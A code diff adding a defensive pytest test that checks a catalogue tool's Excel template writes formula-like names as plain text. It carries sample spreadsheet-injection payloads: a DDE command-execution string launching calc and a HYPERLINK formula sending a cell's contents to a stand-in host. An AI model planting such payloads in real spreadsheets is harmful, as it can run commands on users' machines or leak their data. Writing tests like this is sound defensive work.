@@ -192,3 +192,37 @@ def test_a_control_character_in_an_indicator_text_is_refused(tmp_path, column, c
     row[column] = (row[column] or "abc")[:3] + character + (row[column] or "abc")[3:]
     data = catalogue_data(tmp_path, row)
     catalogue_refused(tmp_path, data, 2, column, f"U+{ord(character):04X}")
+
+
+# -- formula injection into the entry workbook -------------------------------------------------------
+FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?"&D5, "Bấm vào đây")', "+1+1", "-2+3",
+            "@SUM(1,2)")
+
+
+def test_names_that_look_like_formulas_are_written_as_text(tmp_path):
+    """Names from units.csv and indicators.csv became live formulas in the workbook `template` writes."""
+    import csv
+    import io
+    import zipfile
+
+    import openpyxl
+    units = io.StringIO()
+    csv.writer(units, lineterminator="\n").writerows(
+        [f"X{i}", name, name, "commune", "10", "", "", ""] for i, name in enumerate(FORMULAS))
+    row = {**shipped_row("dossiers_received"), "name_vi": FORMULAS[1], "name_en": FORMULAS[0]}
+    data = catalogue_data(tmp_path, row)
+    (data / "units.csv").write_text(UNITS_HEADER + PROVINCE + units.getvalue(), encoding="utf-8")
+    from helpers.units import read_units
+    assert [u.name_vi for u in read_units(data / "units.csv")][1:] == list(FORMULAS)
+    r = cli("template", "2023-11", "--data-dir", str(data), cwd=tmp_path)
+    assert r.returncode == 0, r.stdout + r.stderr
+    book = data / "periods" / "2023-11.xlsx"
+    with zipfile.ZipFile(book) as z:
+        assert not any("<f>" in z.read(n).decode() or "<f " in z.read(n).decode()
+                       for n in z.namelist() if n.startswith("xl/worksheets/"))
+    wb = openpyxl.load_workbook(book)
+    texts = {c.value: c.data_type for ws in wb.worksheets for r in ws.iter_rows() for c in r
+             if isinstance(c.value, str)}
+    for name in FORMULAS:
+        assert texts.get(name) == "s", (name, texts.get(name))
+    assert not [v for v, kind in texts.items() if kind == "f"]
